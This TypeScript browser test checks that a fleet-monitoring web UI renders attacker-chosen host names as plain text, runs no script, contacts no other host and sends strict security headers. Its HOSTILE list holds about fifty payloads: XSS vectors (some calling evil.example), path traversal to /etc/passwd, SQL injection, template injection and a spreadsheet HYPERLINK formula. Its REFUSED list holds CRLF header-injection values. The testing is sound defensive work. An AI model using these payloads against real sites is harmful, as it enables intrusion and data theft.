import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { batchOf, FakeAgent, source } from "../server/test/fake-agent.ts";
import { withoutJudge, writeIncident } from "../server/test/incident-rows.ts";
import { serverForTests } from "../server/test/server-under-test.ts";
import { until } from "../server/test/until.ts";
import { answered, CHROMIUM, launchChromium } from "./chromium.ts";

const SITE = join(import.meta.dirname, "../web/dist/site");
const S = 1_000_000_000n;
/** So many names stand on one host's page. */
const EACH = 4;
const T0 = 1_795_000_000n * S;

/** Whatever of these is taken for markup, script, an address or a style calls `owned`, or asks another machine. */
const HOSTILE: readonly string[] = [
  "<script>owned(1)</script>",
  "<ScRiPt>owned(2)</sCrIpT>",
  "<script src=//evil.example/a.js></script>",
  '"><script>owned(4)</script>',
  "'><script>owned(5)</script>",
  "</script><script>owned(6)</script>",
  "</title><script>owned(7)</script>",
  "</style><script>owned(8)</script>",
  "</textarea><script>owned(9)</script>",
  "--><script>owned(10)</script>",
  "]]><script>owned(11)</script>",
  "<img src=x onerror=owned(12)>",
  '<img src="x" onerror="owned(13)">',
  "<img src=http://evil.example/14.png>",
  "<svg onload=owned(15)>",
  "<svg><script>owned(16)</script></svg>",
  "<svg><animate onbegin=owned(17) attributeName=x dur=1s>",
  "<math><mi xlink:href=javascript:owned(18)>x</mi></math>",
  "<body onload=owned(19)>",
  "<iframe src=javascript:owned(20)></iframe>",
  "<iframe srcdoc='<script>parent.owned(21)</script>'></iframe>",
  "<object data=javascript:owned(22)></object>",
  "<embed src=javascript:owned(23)>",
  "<a href=javascript:owned(24)>x</a>",
  "<base href=http://evil.example/>",
  "<meta http-equiv=refresh content=0;url=http://evil.example/>",
  "<link rel=stylesheet href=http://evil.example/27.css>",
  "<style>*{background:url(http://evil.example/28)}</style>",
  "<form action=http://evil.example/><button>x",
  "<details open ontoggle=owned(30)>",
  "<input autofocus onfocus=owned(31)>",
  "<video><source onerror=owned(32)></video>",
  "<marquee onstart=owned(33)>",
  "javascript:owned(34)",
  "data:text/html,<script>owned(35)</script>",
  "//evil.example/36",
  "http://evil.example/37",
  "../../../../etc/passwd",
  "..%2f..%2f%00",
  '" onmouseover="owned(40)" x="',
  "' onfocus='owned(41)' autofocus='",
  "` onload=`owned(42)`",
  "{{constructor.constructor('owned(43)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody would call a host
  "${owned(44)}",
  "&lt;script&gt;owned(45)&lt;/script&gt;",
  "&#60;script&#62;owned(46)&#60;/script&#62;",
  "\\u003cscript\\u003eowned(47)\\u003c/script\\u003e",
  "%3Cscript%3Eowned(48)%3C/script%3E",
  '=HYPERLINK("http://evil.example/49","x")',
  "__proto__",
  "constructor",
  "null",
  "'; drop table host; --",
  "x'||(select pg_sleep(0))||'",
  "%s%n%x %d",
];

/** No name of anything: each would tear a line, a header or the direction of the text. */
const REFUSED: readonly string[] = ["a\r\nSet-Cookie: b=1", "a\nb", "a\u0000b", "a\u001b[31mred", "a\u202egnp.exe", "a\u200bb", "\ud800"];

describe.skipIf(CHROMIUM === undefined)("names that somebody hostile chose, in a real browser (R42; skipped: chromium not found)", () => {
  const tested = serverForTests(() => ({ siteDir: SITE }), withoutJudge);
  const ids: string[] = [];
  const tellers: (readonly [host: string, names: readonly string[]])[] = [];
  const incidents: string[] = [];
  const wrong: string[] = [];
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    const token = await tested.server.createToken({ labels: {}, uses: 200, ttlSeconds: 600 });
    for (const [index, name] of HOSTILE.entries()) {
      const agent = new FakeAgent(tested.server.agentsUrl);
      expect([name, (await agent.enrol(token, name, { team: name.slice(0, 200) })).status]).toEqual([name, 200]);
      ids.push(agent.id);
      if (index % EACH === 0) await tellOf(agent, HOSTILE.slice(index, index + EACH));
    }
    browser = await launchChromium();
    page = await watched();
  });
  afterAll(() => browser?.close());

  /** A batch and an incident in which all of these names stand in every place that a name has. */
  async function tellOf(agent: FakeAgent, names: readonly string[]): Promise<void> {
    const told = batchOf(agent.id, [{ realtime: T0, lo: -1000n, hi: 1000n }], {
      sources: [...names.map((name) => source(name)), source("b.example:123"), source("c.example:123")],
      events: names.map((name, at) => ({
        kind: "suspended" as const,
        raw_ns: String(at),
        realtime_ns: String(at),
        boottime_ns: String(at),
        source: name,
        detail: { why: name },
      })),
    });
    expect((await agent.send(told)).body.verdict).toBe("stored");
    tellers.push([agent.id, names]);
    const alerts = names.map((name) => ({ host: name, labels: { team: name }, hostLabels: { team: name } }));
    const [first = ""] = names;
    incidents.push(await writeIncident(tested.url, { cause: ["source", `source:${first}`, first], alerts }));
  }

  /** A tab in which nothing can be run, asked of another machine or forbidden by the policy without being noticed. */
  async function watched(): Promise<Page> {
    const tab = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
    await tab.exposeFunction("owned", (which: number) => wrong.push(`ran ${which}`));
    await tab.exposeFunction("violated", (what: string) => wrong.push(`policy ${what}`));
    await tab.addInitScript(() =>
      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        (globalThis as unknown as { violated(what: string): void }).violated(`${violatedDirective} ${blockedURI}`),
      ),
    );
    tab.on("dialog", (dialog) => wrong.push(`dialog ${dialog.message()}`));
    tab.on("pageerror", (error) => wrong.push(`error ${error.message}`));
    tab.on("request", (request) => {
      if (new URL(request.url()).origin !== tested.server.peopleUrl) wrong.push(`asked ${request.url()}`);
    });
    return tab;
  }

  const loaded = () => until("all is loaded", async () => (await page.getByText("Asking the server").count()) === 0);

  async function look(path: string): Promise<void> {
    await page.goto(tested.server.peopleUrl + path);
    await answered(page);
    await loaded();
  }

  /** Goes on as a link of the page does, without loading it anew. */
  async function turnTo(path: string): Promise<void> {
    await page.evaluate((to) => {
      history.pushState(null, "", to);
      dispatchEvent(new PopStateEvent("popstate"));
    }, path);
    await answered(page);
    await loaded();
  }

  it(`are ${HOSTILE.length} that a host may have, and ${REFUSED.length} that none may`, async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
    const token = await tested.server.createToken({ labels: {}, uses: 20, ttlSeconds: 600 });
    for (const [index, name] of REFUSED.entries()) {
      // Each from a machine of its own: what is refused too often from one is not looked at for a while.
      const stranger = () => Object.assign(new FakeAgent(tested.server.agentsUrl), { localAddress: `127.0.9.${index + 1}` });
      expect([name, (await stranger().enrol(token, name)).status]).toEqual([name, 422]);
      expect([name, (await stranger().enrol(token, "fine", { team: name })).status]).toEqual([name, 422]);
    }
  });

  it("stand on the fleet page as the text that they are", async () => {
    await look("/");
    for (const name of [
      "<script>owned(1)</script>",
      "<img src=x onerror=owned(12)>",
      "__proto__",
      "&lt;script&gt;owned(45)&lt;/script&gt;",
    ]) {
      await page.getByRole("searchbox").first().fill(name);
      await page.getByRole("link", { name, exact: true }).first().waitFor();
    }
  });

  it("stand on the pages of hosts, as sources and labels and in events too", async () => {
    for (const [id, names] of tellers) {
      await turnTo(`/hosts/${id}`);
      await page
        .getByRole("heading", { level: 1 })
        .filter({ hasText: names[0] as string })
        .waitFor();
      for (const name of names) await page.getByRole("row").filter({ hasText: name }).first().waitFor();
    }
  });

  it("stand on the pages of incidents, peers, alerting and reports, in addresses too", async () => {
    for (const path of ["/incidents", "/incidents?state=resolved", "/peers", "/alerting", "/reports"]) await look(path);
    for (const id of incidents) await turnTo(`/incidents/${id}`);
    for (const name of HOSTILE.slice(0, 8)) {
      const part = encodeURIComponent(name);
      for (const path of [`/hosts/${part}`, `/incidents/${part}`, `/peers/${part}/${part}`, `/?q=${part}`, `/no/${part}`])
        await turnTo(path);
      await look(`/?q=${part}`);
    }
  });

  it("ran nothing, asked nobody, and broke no policy", () => expect(wrong).toEqual([]));

  it("come with every answer's guards, whoever answers", async () => {
    const paths = [
      "/",
      "/index.html",
      "/hosts/x",
      "/api/v1/hosts",
      `/api/v1/hosts/${ids[0]}`,
      "/api/v1/hosts/nobody",
      "/api/v1/no-such",
      "/api/v1/incidents",
    ];
    for (const path of [...paths, "/api/openapi.json", "/metrics", "/livez", "/readyz"]) {
      const { headers } = await fetch(tested.server.peopleUrl + path);
      expect([path, headers.get("x-content-type-options"), headers.get("x-frame-options")]).toEqual([path, "nosniff", "SAMEORIGIN"]);
      expect([path, headers.get("content-security-policy")]).toEqual([path, expect.stringContaining("default-src 'self'")]);
      expect([path, headers.get("content-security-policy")]).toEqual([path, expect.not.stringMatching(/unsafe/)]);
      expect([path, headers.get("referrer-policy")]).toEqual([path, "no-referrer"]);
    }
  });
});
